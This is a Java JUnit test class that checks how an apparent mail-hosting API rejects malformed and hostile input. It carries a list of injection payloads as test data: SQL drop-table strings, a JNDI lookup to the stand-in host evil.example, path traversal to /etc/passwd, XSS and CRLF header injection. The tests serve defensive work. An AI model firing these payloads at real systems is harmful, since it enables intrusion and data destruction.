package dev.mailroom.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import dev.mailroom.MailroomTest;
import dev.mailroom.TestApi;
import dev.mailroom.TestApi.Response;
import dev.mailroom.TestApi.Tenant;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Whatever a client sends, the answer is a 4xx problem with a {@code code} (never a 500), and
 * every response carries {@code X-Request-Id}.
 */
@MailroomTest
class BadInputTests {

	private static final int ONE_MIB = 1024 * 1024;
	private static final JsonMapper JSON = JsonMapper.builder().build();
	private static final HttpClient CLIENT = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

	private static Tenant tenant;
	private static String existingDomainId;

	@LocalServerPort
	int port;

	TestApi api;

	@BeforeEach
	void setUp() {
		api = new TestApi(port);
		if (tenant == null) {
			tenant = api.newTenant("starter");
			existingDomainId = api.bearer(tenant.apiKey(), "POST", "/api/v1/domains",
					Map.of("name", "bad-input-" + UUID.randomUUID() + ".example")).text("id");
		}
	}

	@Test
	void malformedJsonIsAMalformedRequest() {
		String name = "malformed-" + UUID.randomUUID() + ".example";
		for (String body : List.of("{", "{\"name\":", "not json", "{\"name\":\"" + name + "\",}", "[]",
				"\"" + name + "\"", "null", "{\"name\":\"" + name + "\"}{\"name\":\"x" + name + "\"}",
				"{\"name\":\"" + name + "\"} trailing", "{'name':'" + name + "'}", "{name:\"" + name + "\"}")) {
			Response response = post(body);
			assertThat(response.status()).as(body).isEqualTo(400);
			assertThat(response.code()).as(body).isEqualTo("malformed_request");
			assertProblem(response);
		}
		assertThat(domainCount()).isEqualTo(1);
	}

	@Test
	void anUnknownFieldIsRefused() {
		Response response = post("{\"name\":\"unknown-field-" + UUID.randomUUID() + ".example\",\"org_id\":\""
				+ UUID.randomUUID() + "\"}");
		assertThat(response.status()).isEqualTo(400);
		assertThat(response.code()).isEqualTo("malformed_request");
		assertProblem(response);
		assertThat(domainCount()).isEqualTo(1);
	}

	@Test
	void aWrongTypeIsAClientErrorWithACode() {
		for (String body : List.of("{\"name\":5}", "{\"name\":[]}", "{\"name\":{}}", "{\"name\":true}",
				"{\"name\":[\"array-" + UUID.randomUUID() + ".example\"]}", "{\"name\":1e999}")) {
			Response response = post(body);
			assertThat(response.status()).as(body).isIn(400, 422);
			assertThat(response.code()).as(body).isNotBlank();
			assertProblem(response);
		}
		assertThat(domainCount()).isEqualTo(1);
	}

	@Test
	void aBodyOverOneMebibyteIsTooLarge() throws Exception {
		String big = "{\"name\":\"" + "a".repeat(ONE_MIB) + ".com\"}";
		Response sized = post(big);
		assertThat(sized.status()).isEqualTo(413);
		assertThat(sized.code()).isEqualTo("payload_too_large");
		assertProblem(sized);

		byte[] bytes = big.getBytes(StandardCharsets.UTF_8);
		HttpResponse<String> chunked = send(HttpRequest.newBuilder(uri("/api/v1/domains"))
			.header("Authorization", "Bearer " + tenant.apiKey())
			.header("Content-Type", "application/json")
			.POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(bytes))));
		assertThat(chunked.statusCode()).as("a chunked body without Content-Length").isEqualTo(413);
		assertThat(code(chunked)).isEqualTo("payload_too_large");
		assertThat(chunked.headers().firstValue("X-Request-Id")).isPresent();

		// page forms are held to 2 MB; only webmail's message with attachments may be larger
		byte[] threeMib = new byte[3 * ONE_MIB];
		HttpResponse<String> form = send(HttpRequest.newBuilder(uri("/signin"))
			.header("Content-Type", "multipart/form-data; boundary=x")
			.POST(HttpRequest.BodyPublishers.ofByteArray(threeMib)));
		assertThat(form.statusCode()).as("a 3 MB page form").isEqualTo(413);
		HttpResponse<String> message = send(HttpRequest.newBuilder(uri("/mail/" + UUID.randomUUID() + "/compose"))
			.header("Content-Type", "multipart/form-data; boundary=x")
			.POST(HttpRequest.BodyPublishers.ofByteArray(threeMib)));
		assertThat(message.statusCode()).as("a 3 MB message is judged by sign-in and CSRF, not its size").isNotEqualTo(413);

		Response justUnder = post("{\"name\":\"" + "a".repeat(ONE_MIB - 100) + "\"}");
		assertThat(justUnder.status()).as("a body under the limit is parsed and judged on its content").isEqualTo(422);
		assertThat(domainCount()).isEqualTo(1);
	}

	@Test
	void aBodyThatIsNotJsonIsAnUnsupportedMediaType() throws Exception {
		for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "application/xml")) {
			HttpResponse<String> response = send(HttpRequest.newBuilder(uri("/api/v1/domains"))
				.header("Authorization", "Bearer " + tenant.apiKey())
				.header("Content-Type", type)
				.POST(HttpRequest.BodyPublishers.ofString("name=plain-" + UUID.randomUUID() + ".example")));
			assertThat(response.statusCode()).as(type).isEqualTo(415);
			assertThat(code(response)).as(type).isEqualTo("unsupported_media_type");
			assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
			assertThat(response.headers().firstValue("X-Request-Id")).isPresent();
		}
		assertThat(domainCount()).isEqualTo(1);
	}

	@Test
	void bytesThatAreNotUtf8AreAMalformedRequest() throws Exception {
		byte[] body = { '{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' };
		HttpResponse<String> response = send(HttpRequest.newBuilder(uri("/api/v1/domains"))
			.header("Authorization", "Bearer " + tenant.apiKey())
			.header("Content-Type", "application/json")
			.POST(HttpRequest.BodyPublishers.ofByteArray(body)));
		assertThat(response.statusCode()).isIn(400, 422);
		assertThat(code(response)).isNotBlank();
	}

	@Test
	void deeplyNestedJsonIsRefusedWithoutAServerError() {
		Response response = post("{\"name\":" + "[".repeat(50_000) + "]".repeat(50_000) + "}");
		assertThat(response.status()).isEqualTo(400);
		assertThat(response.code()).isEqualTo("malformed_request");
	}

	@Test
	void hostileStringsAreRefusedWithACodeAndChangeNothing() {
		List<String> hostile = List.of("'; drop table mailroom.domains; --", "x.com'; delete from mailroom.domains; --",
				"\u0000", "a\u0000.com", "\uD83D\uDE00", "\uD83D\uDE00.com", "\uD800", "%00.com", "../../etc/passwd",
				"${jndi:ldap://evil.example/a}", "{{7*7}}.com", "<img src=x onerror=alert(1)>", "\u202Egnp.com",
				"a\r\nSet-Cookie: x=y", "\\\\server\\share");
		SoftAssertions softly = new SoftAssertions();
		for (String value : hostile) {
			Response response = api.bearer(tenant.apiKey(), "POST", "/api/v1/domains", Map.of("name", value));
			softly.assertThat(response.status()).as("status for %s", value).isBetween(400, 499);
			softly.assertThat(response.code()).as("code for %s", value).isNotBlank();
			softly.assertThat(response.header("X-Request-Id")).as("request id for %s", value).isNotBlank();
		}
		for (String path : List.of("/api/v1/domains/'%20drop%20table%20mailroom.domains%20--",
				"/api/v1/domains/" + UUID.randomUUID() + "%27", "/api/v1/domains?status=%27%20or%201%3D1",
				"/api/v1/domains?limit=1%3B%20drop", "/api/v1/domains?cursor=%27%3B%20drop%20table%20x%3B--",
				"/api/v1/domains/%F0%9F%98%80/verify")) {
			Response response = api.bearer(tenant.apiKey(), "GET", path, null);
			if (path.endsWith("/verify")) {
				response = api.bearer(tenant.apiKey(), "POST", path, null);
			}
			softly.assertThat(response.status()).as("status for %s", path).isBetween(400, 499);
			softly.assertThat(response.code()).as("code for %s", path).isNotBlank();
		}
		softly.assertAll();
		Response existing = api.bearer(tenant.apiKey(), "GET", "/api/v1/domains/" + existingDomainId, null);
		assertThat(existing.status()).as("the domains table is still there").isEqualTo(200);
		assertThat(domainCount()).isEqualTo(1);
	}

	@Test
	void everyResponseCarriesARequestIdAndErrorsAreProblemDetails() throws Exception {
		List<Response> errors = new ArrayList<>();
		errors.add(api.anonymous("GET", "/api/v1/domains", null));
		errors.add(api.bearer("mr_not-a-real-key", "GET", "/api/v1/domains", null));
		errors.add(api.bearer(tenant.apiKey(), "GET", "/api/v1/domains/" + UUID.randomUUID(), null));
		errors.add(api.bearer(tenant.apiKey(), "GET", "/api/v1/domains/not-a-uuid", null));
		errors.add(api.bearer(tenant.apiKey(), "POST", "/api/v1/domains", "{"));
		errors.add(api.bearer(tenant.apiKey(), "POST", "/api/v1/domains", Map.of("name", "bad..name")));
		errors.add(api.bearer(tenant.apiKey(), "GET", "/api/v1/domains?limit=0", null));
		errors.add(api.operator("POST", "/api/v1/operator/domains/" + UUID.randomUUID() + "/mark-verified", null));
		for (Response response : errors) {
			String call = response.raw().request().method() + " " + response.raw().uri();
			assertThat(response.status()).as(call).isBetween(400, 499);
			assertThat(response.header("X-Request-Id")).as(call).isNotBlank();
			assertThat(response.header("Content-Type")).as(call).startsWith("application/problem+json");
			assertThat(response.code()).as(call).matches("[a-z_]+");
			assertThat(response.json().get("status").asInt()).as(call).isEqualTo(response.status());
		}

		Response ok = api.bearer(tenant.apiKey(), "GET", "/api/v1/domains", null);
		assertThat(ok.status()).isEqualTo(200);
		assertThat(ok.header("X-Request-Id")).isNotBlank();
		Response created = api.bearer(tenant.apiKey(), "POST", "/api/v1/domains",
				Map.of("name", "request-id-" + UUID.randomUUID() + ".example"));
		assertThat(created.status()).isEqualTo(201);
		assertThat(created.header("X-Request-Id")).isNotBlank().isNotEqualTo(ok.header("X-Request-Id"));
		assertThat(api.bearer(tenant.apiKey(), "DELETE", "/api/v1/domains/" + created.text("id"), null)
			.header("X-Request-Id")).isNotBlank();

		Response echoed = api.send("GET", "/api/v1/domains", null, "Bearer " + tenant.apiKey(),
				Map.of("X-Request-Id", "client-chosen-id-123"));
		assertThat(echoed.header("X-Request-Id")).isEqualTo("client-chosen-id-123");
		Response replaced = api.send("GET", "/api/v1/domains", null, "Bearer " + tenant.apiKey(),
				Map.of("X-Request-Id", "<script>alert(1)</script>"));
		assertThat(replaced.header("X-Request-Id")).isNotBlank().doesNotContain("<");
	}

	/**
	 * Requests that fail before any controller is chosen (no route for the method or path, or
	 * refused by the security firewall) must still answer the API's problem format.
	 */
	@Test
	void requestsRefusedBeforeAnyControllerAreProblemDetailsToo() {
		List<Response> responses = List.of(
				api.bearer(tenant.apiKey(), "PUT", "/api/v1/domains", Map.of("name", "put-" + UUID.randomUUID() + ".example")),
				api.bearer(tenant.apiKey(), "PATCH", "/api/v1/domains/" + existingDomainId, Map.of("name", "x.example")),
				api.bearer(tenant.apiKey(), "GET", "/api/v1/no-such-endpoint", null),
				api.bearer(tenant.apiKey(), "GET", "/api/v1/domains/'%3B%20drop%20table%20mailroom.domains%3B%20--", null));
		SoftAssertions softly = new SoftAssertions();
		for (Response response : responses) {
			String call = response.raw().request().method() + " " + response.raw().uri() + " -> " + response.status() + " "
					+ response.header("Content-Type") + " " + response.raw().body();
			softly.assertThat(response.status()).as(call).isBetween(400, 499);
			softly.assertThat(response.header("X-Request-Id")).as(call).isNotBlank();
			softly.assertThat(response.header("Content-Type")).as(call).startsWith("application/problem+json");
			softly.assertThat(response.code()).as(call).isNotBlank();
		}
		softly.assertAll();
	}

	/** Paths Tomcat refuses itself (encoded NUL, encoded slash): never reach the application, never a 5xx. */
	@Test
	void pathsTheServletContainerRefusesAreStillClientErrors() {
		for (String path : List.of("/api/v1/domains/%00", "/api/v1/domains/..%2F..%2Fetc%2Fpasswd")) {
			Response response = api.bearer(tenant.apiKey(), "GET", path, null);
			assertThat(response.status()).as(path).isEqualTo(400);
		}
		assertThat(api.bearer(tenant.apiKey(), "GET", "/api/v1/domains/" + existingDomainId, null).status()).isEqualTo(200);
	}

	/**
	 * Percent-encoding Tomcat cannot decode (a lone or truncated {@code %}, bytes that are not UTF-8)
	 * in a query string or a form body, and a query string over the container's limits: a 400
	 * {@code malformed_request} problem for the API, a 400 page for people, never a 500. Sent over a
	 * raw socket: {@link URI} refuses to build such requests.
	 */
	@Test
	void malformedQueryStringsAndFormBodiesAreMalformedRequests() throws Exception {
		SoftAssertions softly = new SoftAssertions();
		for (String query : List.of("cursor=%%%garbage", "cursor=%C3%28", "cursor=%", "cursor=abc%2", "%=x",
				"cursor=%FF%FE", "limit=10&cursor=%E2%82", "cursor=" + "a".repeat(5_000) + "%")) {
			for (String path : List.of("/api/v1/mailboxes", "/api/v1/domains")) {
				RawResponse response = raw("GET", path + "?" + query, "Authorization: Bearer " + tenant.apiKey(), null);
				String call = "GET " + path + "?" + query.substring(0, Math.min(query.length(), 40)) + " -> "
						+ response.status() + " " + response.body();
				softly.assertThat(response.status()).as(call).isEqualTo(400);
				softly.assertThat(response.header("Content-Type")).as(call).startsWith("application/problem+json");
				softly.assertThat(response.body()).as(call).contains("\"code\":\"malformed_request\"");
				softly.assertThat(response.header("X-Request-Id")).as(call).isNotBlank();
			}
		}
		RawResponse page = raw("GET", "/signin?error=%%%garbage", null, null);
		softly.assertThat(page.status()).as("a page with a malformed query: " + page.body()).isEqualTo(400);
		softly.assertThat(page.header("Content-Type")).as("a page answers a page").startsWith("text/html");
		RawResponse form = raw("POST", "/signin", "Content-Type: application/x-www-form-urlencoded",
				"email=%%%garbage&password=%C3%28");
		softly.assertThat(form.status()).as("a form body with malformed encoding: " + form.body()).isEqualTo(400);
		RawResponse huge = raw("GET", "/api/v1/mailboxes?" + "x=1&".repeat(20_000),
				"Authorization: Bearer " + tenant.apiKey(), null);
		softly.assertThat(huge.status()).as("a huge query string").isBetween(400, 499);
		RawResponse many = raw("GET", "/api/v1/mailboxes?" + "x=1&".repeat(1_500),
				"Authorization: Bearer " + tenant.apiKey(), null);
		softly.assertThat(many.status()).as("more parameters than the container takes: " + many.body()).isBetween(400, 499);
		softly.assertAll();
		assertThat(api.bearer(tenant.apiKey(), "GET", "/api/v1/domains?limit=5", null).status()).isEqualTo(200);
	}

	record RawResponse(int status, Map<String, String> headers, String body) {

		String header(String name) {
			return headers.getOrDefault(name.toLowerCase(java.util.Locale.ROOT), "");
		}
	}

	/** One HTTP/1.0 request written byte for byte (the request line may be anything; the answer is not chunked). */
	private RawResponse raw(String method, String target, String header, String body) throws IOException {
		try (java.net.Socket socket = new java.net.Socket("127.0.0.1", port)) {
			socket.setSoTimeout(30_000);
			byte[] content = body == null ? new byte[0] : body.getBytes(StandardCharsets.ISO_8859_1);
			String head = method + " " + target + " HTTP/1.0\r\nHost: localhost:" + port + "\r\nConnection: close\r\n"
					+ (header == null ? "" : header + "\r\n") + (body == null ? "" : "Content-Length: " + content.length + "\r\n")
					+ "\r\n";
			socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
			socket.getOutputStream().write(content);
			socket.getOutputStream().flush();
			String text = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
			int split = text.indexOf("\r\n\r\n");
			String[] lines = text.substring(0, split < 0 ? text.length() : split).split("\r\n");
			Map<String, String> headers = new java.util.HashMap<>();
			for (int i = 1; i < lines.length; i++) {
				int colon = lines[i].indexOf(':');
				if (colon > 0) {
					headers.put(lines[i].substring(0, colon).strip().toLowerCase(java.util.Locale.ROOT),
							lines[i].substring(colon + 1).strip());
				}
			}
			return new RawResponse(Integer.parseInt(lines[0].split(" ")[1]), headers,
					split < 0 ? "" : text.substring(split + 4));
		}
	}

	private Response post(String body) {
		return api.bearer(tenant.apiKey(), "POST", "/api/v1/domains", body);
	}

	private long domainCount() {
		Response list = api.bearer(tenant.apiKey(), "GET", "/api/v1/domains?limit=200", null);
		assertThat(list.status()).isEqualTo(200);
		return list.json().get("items").size();
	}

	private URI uri(String path) {
		return URI.create(api.base() + path);
	}

	private static HttpResponse<String> send(HttpRequest.Builder request) throws IOException, InterruptedException {
		return CLIENT.send(request.timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofString());
	}

	private static String code(HttpResponse<String> response) {
		JsonNode json = JSON.readTree(response.body());
		return json.get("code").asString();
	}

	private static void assertProblem(Response response) {
		assertThat(response.header("Content-Type")).startsWith("application/problem+json");
		assertThat(response.header("X-Request-Id")).isNotBlank();
		assertThat(response.json().get("status").asInt()).isEqualTo(response.status());
	}
}
